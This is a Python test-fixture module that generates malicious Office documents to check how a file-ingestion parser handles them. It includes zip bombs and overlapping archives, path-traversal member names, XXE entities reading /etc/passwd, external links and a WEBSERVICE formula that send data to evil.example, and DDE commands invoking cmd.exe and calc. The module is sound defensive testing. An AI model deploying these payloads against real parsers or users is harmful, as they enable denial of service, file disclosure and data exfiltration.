"""Office files: archives and XML that unpack without end, point elsewhere, or are not what they say."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from datetime import datetime

from openpyxl import Workbook

from tests.ingest.files import (
    SECRET,
    SENTENCE,
    Bad,
    Harmless,
    bad,
    docx,
    harmless,
    pptx,
    raw_docx,
    repacked,
    word,
    xlsx,
)

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_UTF_16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")
_DECLARED = b'<!DOCTYPE x [<!ENTITY a "%b">]>'
_SHEET = "xl/worksheets/sheet1.xml"


def archive(members: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return stream.getvalue()


def relations(*targets: tuple[str, str]) -> bytes:
    """Links of a part to files elsewhere, by kind and address."""
    entries = (
        f'<Relationship Id="x{number}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(targets)
    )
    return f'<Relationships xmlns="{_RELATIONS}">{"".join(entries)}</Relationships>'.encode()


def sheet(rows: bytes, *, before: bytes = b"", after: bytes = b"") -> bytes:
    """A workbook whose first sheet has these rows, written by hand."""
    xml = b'<worksheet xmlns="%b">%b<sheetData>%b</sheetData>%b</worksheet>' % (_MAIN.encode(), before, rows, after)
    return repacked(xlsx(), {_SHEET: xml})


def row(*cells: bytes) -> bytes:
    return b"<row>%b</row>" % b"".join(b'<c t="inlineStr"><is><t>%b</t></is></c>' % cell for cell in cells)


def _without(file: bytes, *names: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(file)) as old:
        return archive({name: old.read(name) for name in old.namelist() if name not in names})


def _patched(file: bytes, old: bytes, new: bytes) -> bytes:
    """The same archive with some of its own bytes overwritten."""
    if len(old) != len(new) or old not in file:
        raise ValueError(f"{old!r} cannot be overwritten by {new!r}")
    return file.replace(old, new)


def _with_flag(file: bytes, bit: int) -> bytes:
    """The same archive; its table of contents marks every part."""
    data = bytearray(file)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= bit
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _with_method(file: bytes, method: int) -> bytes:
    """The same archive; every part claims to be packed in another way."""
    data = bytearray(file)
    for mark, offset in ((b"PK\x01\x02", 10), (b"PK\x03\x04", 8)):
        at = data.find(mark)
        while at >= 0:
            struct.pack_into("<H", data, at + offset, method)
            at = data.find(mark, at + 4)
    return bytes(data)


def _lying_about_sizes() -> bytes:
    """20 MB that the table of contents says are 1 KB."""
    file = bytearray(repacked(docx(), {"word/document.xml": b"<x>" + b"a" * 20 * 1024**2}))
    for mark, offset, name in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = file.find(mark)
        while at >= 0:
            if file[at + name : at + name + 17] == b"word/document.xml":
                struct.pack_into("<I", file, at + offset, 1_024)
            at = file.find(mark, at + 4)
    return bytes(file)


def _overlapping(count: int = 1_500) -> bytes:
    """One packed stretch of a megabyte that many entries of the table of contents point to."""
    content = b"\0" * 1_000_000
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = press.compress(content) + press.flush()
    fields = (20, 0, 8, 0, 0, zlib.crc32(content), len(packed), len(content))
    out = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields, 8, 0) + b"word/aaa" + packed
    table = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, *fields, 10, 0, 0, 0, 0, 0, 0) + b"word/%05d" % number
        for number in range(count)
    )
    return out + table + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(table), len(out), 0)


def _bomb_in_bombs() -> bytes:
    inner = archive({"0": b"\0" * 10 * 1024**2})
    for _ in range(4):
        inner = archive({str(number): inner for number in range(10)})
    return inner


def _nested(tag: bytes, depth: int) -> bytes:
    return b"<w:%b>" % tag * depth + b"</w:%b>" % tag * depth


def _nested_tables(depth: int) -> bytes:
    return raw_docx(b"<w:tbl><w:tr><w:tc>" * depth + word(b"In.") + b"</w:tc></w:tr></w:tbl>" * depth)


def _nested_shapes(depth: int = 500) -> bytes:
    head = b'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree>'
    return repacked(
        pptx(),
        {
            "ppt/slides/slide1.xml": head
            + b"<p:grpSp>" * depth
            + b"</p:grpSp>" * depth
            + b"</p:spTree></p:cSld></p:sld>"
        },
    )


def _many_sheets(count: int) -> bytes:
    book = Workbook(write_only=True)
    for number in range(count):
        book.create_sheet(f"S{number}")
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _million_rows() -> bytes:
    """Every row that a sheet may have; the digits keep it from packing too well."""
    return sheet(b"".join(b"<row><c><v>%d</v></c></row>" % (number * number) for number in range(1_048_576)))


def _strange_values() -> bytes:
    book = Workbook()
    book.active.append(["Said once.", "Number", "Date"])
    book.active.append(['=WEBSERVICE("https://evil.example/?"&A1)', 1e300, datetime(1900, 1, 1)])
    book.active.append(["=cmd|'/C calc'!A0", float("1e-300"), True])
    return xlsx(book)


_ARCHIVES: tuple[Bad, ...] = (
    bad("nothing-but-a-mark.docx", "file_corrupt", lambda: b"PK\x03\x04"),
    bad("empty-archive.docx", "file_type_mismatch", lambda: archive({})),
    bad("other-archive.docx", "file_type_mismatch", lambda: archive({"a.txt": b"a"})),
    bad("archive.xlsx", "file_type_mismatch", docx),
    bad("bombs-in-bombs.docx", "file_type_mismatch", _bomb_in_bombs),
    bad("overlapping.docx", "file_too_complex", _overlapping),
    bad("lying-about-sizes.docx", "file_corrupt", _lying_about_sizes),
    bad("truncated-table.xlsx", "file_corrupt", lambda: xlsx()[:-10]),
    bad("truncated-start.pptx", "file_type_mismatch", lambda: pptx()[100:]),
    bad(
        "flipped-bytes.docx",
        "file_type_mismatch",
        lambda: docx().translate(bytes(range(255, 127, -1)) + bytes(range(128, 256))),
    ),
    bad(
        "wrong-sum.docx",
        "file_corrupt",
        lambda: _patched(archive({"word/document.xml": b"<abc/>"}, method=0), b"<abc/>", b"<abd/>"),
    ),
    bad("locked-parts.xlsx", "file_encrypted", lambda: _with_flag(xlsx(), 1)),
    bad("strange-packing.pptx", "file_corrupt", lambda: _with_method(pptx(), 99)),
    bad("absolute-part.docx", "file_corrupt", lambda: repacked(docx(), {"/etc/cron.d/x": b"x"})),
    bad("backward-part.xlsx", "file_corrupt", lambda: repacked(xlsx(), {"xl\\..\\..\\x.xml": b"<x/>"})),
    bad("other-drive.pptx", "file_corrupt", lambda: repacked(pptx(), {"C:/Windows/x.xml": b"<x/>"})),
    bad("deep-part.docx", "file_corrupt", lambda: repacked(docx(), {"word/" + "../" * 50 + "etc/passwd": b"x"})),
)

_WORD: tuple[Bad, ...] = (
    bad("no-document.docx", "file_corrupt", lambda: _without(docx(), "word/document.xml")),
    bad("no-types.docx", "file_corrupt", lambda: _without(docx(), "[Content_Types].xml")),
    bad("no-relations.docx", "file_corrupt", lambda: _without(docx(), "_rels/.rels")),
    bad("empty-document.docx", "file_corrupt", lambda: repacked(docx(), {"word/document.xml": b""})),
    bad("no-xml.docx", "file_corrupt", lambda: repacked(docx(), {"word/document.xml": b"\x89PNG\r\n"})),
    bad(
        "unknown-encoding.docx",
        "file_corrupt",
        lambda: repacked(docx(), {"word/document.xml": b'<?xml version="1.0" encoding="nonsense"?><x/>'}),
    ),
    bad(
        "entities-in-utf-16.docx",
        "file_corrupt",
        lambda: repacked(
            docx(),
            {"word/styles.xml": _UTF_16},
        ),
    ),
    bad(
        "long-entity.docx", "file_corrupt", lambda: raw_docx(word(b"&a;" * 10_000), before=_DECLARED % (b"a" * 10_000))
    ),
    bad(
        "declared-elsewhere.docx",
        "file_corrupt",
        lambda: raw_docx(before=b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'),
    ),
    bad(
        "parameter-entity.docx",
        "file_corrupt",
        lambda: raw_docx(before=b'<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>'),
    ),
    bad(
        "entities-in-relations.docx",
        "file_corrupt",
        lambda: repacked(docx(), {"word/_rels/document.xml.rels": _DECLARED % b"b" + b"<x>&a;</x>"}),
    ),
    bad(
        "document-elsewhere.docx",
        "file_corrupt",
        lambda: repacked(docx(), {"_rels/.rels": relations(("officeDocument", "https://evil.example/x.xml"))}),
    ),
    bad("nested-content.docx", "file_corrupt", lambda: raw_docx(_nested(b"sdt", 3_000))),
    bad("nested-tables.docx", "file_corrupt", lambda: _nested_tables(1_000)),
    bad(
        "wide-cell.docx",
        "file_corrupt",
        lambda: raw_docx(b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="many"/></w:tcPr></w:tc></w:tr></w:tbl>'),
    ),
    bad(
        "only-hidden-words.docx",
        "no_text_found",
        lambda: raw_docx(b"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>%b</w:t></w:r></w:p>" % SECRET.encode()),
    ),
)

_SLIDES: tuple[Bad, ...] = (
    bad("no-presentation.pptx", "file_corrupt", lambda: _without(pptx(), "ppt/presentation.xml")),
    bad("missing-slide.pptx", "file_corrupt", lambda: _without(pptx(), "ppt/slides/slide1.xml")),
    bad(
        "entities.pptx",
        "file_corrupt",
        lambda: repacked(pptx(), {"ppt/slides/slide1.xml": _DECLARED % b"b" + b"<x>&a;</x>"}),
    ),
    bad("nested-shapes.pptx", "file_corrupt", _nested_shapes),
    bad("before-2007.pptx", "file_type_mismatch", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)),
)

_SHEETS: tuple[Bad, ...] = (
    bad("no-workbook.xlsx", "file_corrupt", lambda: _without(xlsx(), "xl/workbook.xml")),
    bad("missing-sheet.xlsx", "no_text_found", lambda: _without(xlsx(), _SHEET)),
    bad(
        "entities.xlsx", "file_corrupt", lambda: repacked(xlsx(), {_SHEET: _DECLARED % (b"b" * 1_000) + b"<x>&a;</x>"})
    ),
    bad("shared-texts-beyond.xlsx", "file_corrupt", lambda: sheet(b'<row><c t="s"><v>99999999</v></c></row>')),
    bad(
        "shared-texts-bomb.xlsx",
        "file_too_complex",
        lambda: repacked(xlsx(), {"xl/sharedStrings.xml": b"<sst><si><t>" + b"a" * 20 * 1024**2}),
    ),
    bad("unfinished-sheet.xlsx", "file_corrupt", lambda: repacked(xlsx(), {_SHEET: b"<worksheet><sheetData><row>"})),
    bad("nested-sheet.xlsx", "no_text_found", lambda: sheet(b"<row>" * 20_000 + b"</row>" * 20_000)),
    bad("not-a-number.xlsx", "file_corrupt", lambda: sheet(b"<row><c><v>many</v></c></row>")),
    bad("empty-workbook.xlsx", "file_corrupt", lambda: repacked(xlsx(), {"xl/workbook.xml": b""})),
)

BAD: tuple[Bad, ...] = (*_ARCHIVES, *_WORD, *_SLIDES, *_SHEETS)

SLOW: tuple[Bad, ...] = (
    bad("many-sheets.xlsx", "file_too_complex", lambda: _many_sheets(2_100)),
    bad("million-rows.xlsx", "file_too_complex", _million_rows),
    bad("long-paragraph.docx", "file_too_complex", lambda: raw_docx(word(b"word " * 1_100_000))),
    bad("million-cells.xlsx", "file_too_complex", lambda: sheet(row(*[b"%d" % n for n in range(16_000)]) * 130)),
)

HARMLESS: tuple[Harmless, ...] = (
    harmless(
        "template-elsewhere.docx",
        lambda: raw_docx(
            word(b"Said once."),
            extra={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/t.dotm"))},
        ),
        "Said once.",
        "evil",
    ),
    harmless(
        "parts-elsewhere.docx",
        lambda: raw_docx(
            word(b"Said once."),
            extra={
                "word/_rels/document.xml.rels": relations(
                    ("image", "file:///etc/passwd"),
                    ("oleObject", "https://evil.example/o"),
                    ("subDocument", "../../../../etc/passwd"),
                )
            },
        ),
        "Said once.",
        "evil",
        "root:",
    ),
    harmless(
        "macros.docx",
        lambda: raw_docx(
            word(b"Said once."), extra={"word/vbaProject.bin": b"Sub AutoOpen() Shell " + SECRET.encode()}
        ),
        "Said once.",
        SECRET,
    ),
    harmless(
        "drawing-with-script.docx",
        lambda: raw_docx(word(b"Said once."), extra={"word/media/x.svg": b"<svg onload='alert(1)'/>"}),
        "Said once.",
        "alert",
    ),
    harmless(
        "fields.docx",
        lambda: raw_docx(
            word(b"Said once.")
            + b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe INCLUDETEXT file:///etc/passwd</w:instrText></w:r></w:p>"
        ),
        "Said once.",
        "cmd.exe",
        "root:",
    ),
    harmless(
        "included.docx",
        lambda: raw_docx(
            word(b"Said once.")
            + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
        ),
        "Said once.",
        "root:",
    ),
    harmless(
        "huge-picture.docx",
        lambda: raw_docx(
            word(b"Said once."),
            extra={"word/media/x.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\x7f\xff\xff\xff" * 2 + b"\x08\x06\0\0\0"},
        ),
        "Said once.",
    ),
    harmless(
        "wide-cell-of-many.docx",
        lambda: raw_docx(
            word(b"Said once.")
            + b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>%b</w:tc></w:tr></w:tbl>'
            % word(b"Wide.")
        ),
        "Wide.",
    ),
    harmless("huge-picture.pptx", lambda: repacked(pptx(), {"ppt/media/x.gif": b"GIF89a\xff\xff\xff\xff"}), SENTENCE),
    harmless(
        "lying-about-its-size.xlsx",
        lambda: sheet(row(b"Said once."), before=b'<dimension ref="A1:XFD1048576"/>'),
        "Said once.",
    ),
    harmless(
        "far-cell.xlsx",
        lambda: sheet(row(b"Said once.") + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "Said once.",
    ),
    harmless("strange-values.xlsx", _strange_values, "Number: 1e+300", "evil", "calc"),
    harmless(
        "merged-everywhere.xlsx",
        lambda: sheet(
            row(b"Said once."), after=b"<mergeCells>%b</mergeCells>" % (b'<mergeCell ref="A1:XFD1048576"/>' * 10_000)
        ),
        "Said once.",
    ),
    harmless(
        "books-elsewhere.xlsx",
        lambda: repacked(
            xlsx(),
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("externalLinkPath", "https://evil.example/x.xlsx")
                )
            },
        ),
        SENTENCE,
        "evil",
    ),
)
